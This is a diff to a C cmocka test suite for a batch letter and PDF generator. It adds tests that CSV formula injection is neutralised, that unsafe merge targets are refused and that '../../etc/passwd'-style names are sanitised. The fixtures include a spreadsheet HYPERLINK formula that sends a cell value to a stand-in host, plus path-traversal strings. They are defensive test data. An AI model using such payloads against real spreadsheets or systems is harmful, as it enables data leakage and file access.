@@ -69,7 +69,7 @@ static void hazards(void **state)
 	assert_int_equal(batch(HAZARDS, "h", "-j 2"), 4); /* partly failed */
 	static const char *const made[] = {"000001-株式会社青葉商事,_本社.pdf",
 	                                   "000002-㈱髙橋製作所.pdf", "000003-ヤマダ_タロウ.pdf",
-	                                   "000004-_.._etc_passwd.pdf", "000005-山﨑_工務店.pdf",
+	                                   "000004-_._etc_passwd.pdf", "000005-山﨑_工務店.pdf",
 	                                   /* 𠮷 (U+20BB7) from the fallback font */
 	                                   "000007-有限会社𠮷野家具.pdf"};
 	for (size_t i = 0; i < sizeof made / sizeof *made; i++) {
@@ -368,6 +368,111 @@ static void disk_full_on_tmpfs(void **state)
 	assert_int_equal(sh("test -s '%s/fs.tmp'", tmp), 1);
 }
 
+/* Values a spreadsheet would run as formulas (= + - @, a tab or CR first)
+ * are written with an apostrophe before them in manifest.csv, print.csv
+ * and passwords.csv (OWASP's advice for CSV injection); the letters keep
+ * the names as written. */
+static void formula_injection_neutralised(void **state)
+{
+	(void)state;
+	char path[128];
+	snprintf(path, sizeof path, "%s/formula.csv", tmp);
+	FILE *f = fopen(path, "w");
+	assert_non_null(f);
+	fputs("id,name,postcode,address\n"
+	      "=1+1,\"=HYPERLINK(\"\"http://x.example/?p=\"\"&E2,\"\"x\"\")\",100-0001,@SUM(A1)\n"
+	      "+2,+株式会社プラス,100-0002,-東京都\n"
+	      "-3,-株式会社マイナス,100-0003,\"\t東京都\"\n"
+	      "@4,@株式会社アット,100-0004,東京都\n",
+	      f);
+	fclose(f);
+	char opts[256];
+	snprintf(opts, sizeof opts,
+	         "--encrypt --generate-passwords --owner-password-file '%s/o.pw' "
+	         "--merge '%s/fi-print.pdf'",
+	         tmp, tmp);
+	assert_int_equal(sh("echo Owner-Pass-123 >'%s/o.pw'", tmp), 0);
+	assert_int_equal(batch(path, "fi", opts), 0);
+	static const char *const files[] = {"fi/manifest.csv", "fi-print.csv", "fi/passwords.csv"};
+	for (size_t i = 0; i < NG_ARRAY_LEN(files); i++) {
+		/* No cell starts with a formula character (a cell starts after
+		 * a line start or a comma, with or without its quote). */
+		if (sh("cd '%s' && tail -n +2 '%s' | grep -q '\\(^\\|,\\)\"\\?[-=+@\t]'", tmp,
+		       files[i]) == 0)
+			fail_msg("%s has a cell starting with a formula character", files[i]);
+		if (sh("cd '%s' && grep -q \"\\\"'=HYPERLINK\" '%s'", tmp, files[i]) != 0)
+			fail_msg("%s lost the name", files[i]);
+	}
+	assert_int_equal(sh("cd '%s' && grep -q \"\\\"'=1+1\\\"\" fi/manifest.csv", tmp), 0);
+	assert_int_equal(sh("cd '%s' && grep -q \"\\\"'@SUM(A1)\\\"\" fi-print.csv", tmp), 0);
+}
+
+/* The --merge target is checked before the first letter: a missing
+ * directory, a symbolic link, a FIFO are refused (exit 3) with no letter
+ * written; a file planted at the old fixed temporary name
+ * (PRINT.pdf.tmp) receives nothing (mkstemp). */
+static void merge_target_checked_first(void **state)
+{
+	(void)state;
+	const char *list = make_list(3);
+	char opt[256];
+	snprintf(opt, sizeof opt, "--merge '%s/no-such-dir/print.pdf'", tmp);
+	assert_int_equal(batch(list, "mt", opt), 3);
+	assert_int_equal(sh("test ! -e '%s/mt'", tmp), 0);
+	assert_int_equal(sh("cd '%s' && ln -s /dev/null mt-link.pdf && mkfifo mt-fifo.pdf", tmp),
+	                 0);
+	static const char *const bad[] = {"mt-link.pdf", "mt-fifo.pdf"};
+	for (size_t i = 0; i < NG_ARRAY_LEN(bad); i++) {
+		snprintf(opt, sizeof opt, "--merge '%s/%s'", tmp, bad[i]);
+		assert_int_equal(batch(list, "mt", opt), 3);
+		assert_int_equal(
+		    sh("grep -q 'is a symbolic link\\|is not a regular file' '%s/mt.err'", tmp), 0);
+		assert_int_equal(sh("test ! -e '%s/mt'", tmp), 0);
+	}
+	assert_int_equal(sh("test -L '%s/mt-link.pdf' && test -p '%s/mt-fifo.pdf'", tmp, tmp), 0);
+	assert_int_equal(sh("echo planted >'%s/mt-print.pdf.tmp'", tmp), 0);
+	snprintf(opt, sizeof opt, "--merge '%s/mt-print.pdf'", tmp);
+	assert_int_equal(batch(list, "mt", opt), 0);
+	assert_int_equal(sh("echo planted | cmp -s - '%s/mt-print.pdf.tmp'", tmp), 0);
+	assert_int_equal(sh("qpdf --check '%s/mt-print.pdf' >/dev/null", tmp), 0);
+	assert_int_equal(sh("ls '%s' | grep -q 'mt-print.pdf.tmp.'", tmp), 1); /* none left */
+}
+
+/* -o - (standard output) is refused for a batch, no directory "-" is
+ * made; a missing list is an I/O error (3); a CR inside a field never
+ * reaches the mail-house list or the manifest. */
+static void batch_usage_and_io_errors(void **state)
+{
+	(void)state;
+	const char *list = make_list(2);
+	assert_int_equal(sh("cd '%s' && '%s' batch '%s' --clients '%s' -o - 2>dash.err", tmp,
+	                    NG_BINARY, RECORD, list),
+	                 2);
+	assert_int_equal(sh("test ! -e '%s/-'", tmp), 0);
+	char missing[128];
+	snprintf(missing, sizeof missing, "%s/no-such-list.csv", tmp);
+	assert_int_equal(batch(missing, "ml", ""), 3);
+	assert_int_equal(sh("test ! -e '%s/ml'", tmp), 0);
+	char cr[128];
+	snprintf(cr, sizeof cr, "%s/cr.csv", tmp);
+	FILE *f = fopen(cr, "w");
+	assert_non_null(f);
+	fputs("id,name,postcode,address\r\nC1,\"株式会社\rシーアール\",100-0001,"
+	      "\"東京都\r\n千代田区\"\r\n",
+	      f);
+	fclose(f);
+	char opt[256];
+	snprintf(opt, sizeof opt, "--merge '%s/cr-print.pdf'", tmp);
+	assert_int_equal(batch(cr, "cr", opt), 0);
+	/* The only CRs are the line ends. */
+	assert_int_equal(
+	    sh("cd '%s' && c=$(printf '\\r') && for f in cr-print.csv cr/manifest.csv; "
+	       "do sed \"s/$c\\$//\" $f | grep -q \"$c\" && exit 1; done; exit 0",
+	       tmp),
+	    0);
+	assert_int_equal(sh("grep -q '東京都' '%s/cr-print.csv'", tmp), 0);
+}
+
 /* README's recipe as written: four shards at once into one directory
  * with GNU parallel; together they are the whole run, each with its own
  * manifest, no state left over. */
@@ -456,6 +561,10 @@ static void safe_names(void **state)
 	assert_string_equal(ng_batch_file_name(a, 1, "株式会社 青葉", "pdf"),
 	                    "000001-株式会社_青葉.pdf");
 	assert_string_equal(ng_batch_file_name(a, 2, "../..", "pdf"), "000002-_.pdf");
+	/* No ".." survives anywhere in a name. */
+	assert_string_equal(ng_batch_file_name(a, 2, "a..b...c/..d", "pdf"), "000002-a.b.c_.d.pdf");
+	assert_string_equal(ng_batch_file_name(a, 2, "../../etc/passwd", "pdf"),
+	                    "000002-_._etc_passwd.pdf");
 	assert_string_equal(ng_batch_file_name(a, 3, "a/b\\c:d*e?f\"g<h>i|j", "pdf"),
 	                    "000003-a_b_c_d_e_f_g_h_i_j.pdf");
 	assert_string_equal(ng_batch_file_name(a, 4,
@@ -597,6 +706,9 @@ int main(void)
 	    cmocka_unit_test(list_changed_during_run_stops),
 	    cmocka_unit_test(disk_full_stops_the_run),
 	    cmocka_unit_test(disk_full_on_tmpfs),
+	    cmocka_unit_test(formula_injection_neutralised),
+	    cmocka_unit_test(merge_target_checked_first),
+	    cmocka_unit_test(batch_usage_and_io_errors),
 	    cmocka_unit_test(list_read_in_pieces),
 	    cmocka_unit_test(bad_byte_at_end_stops_before_first_row),
 	    cmocka_unit_test(list_from_a_pipe_refused),
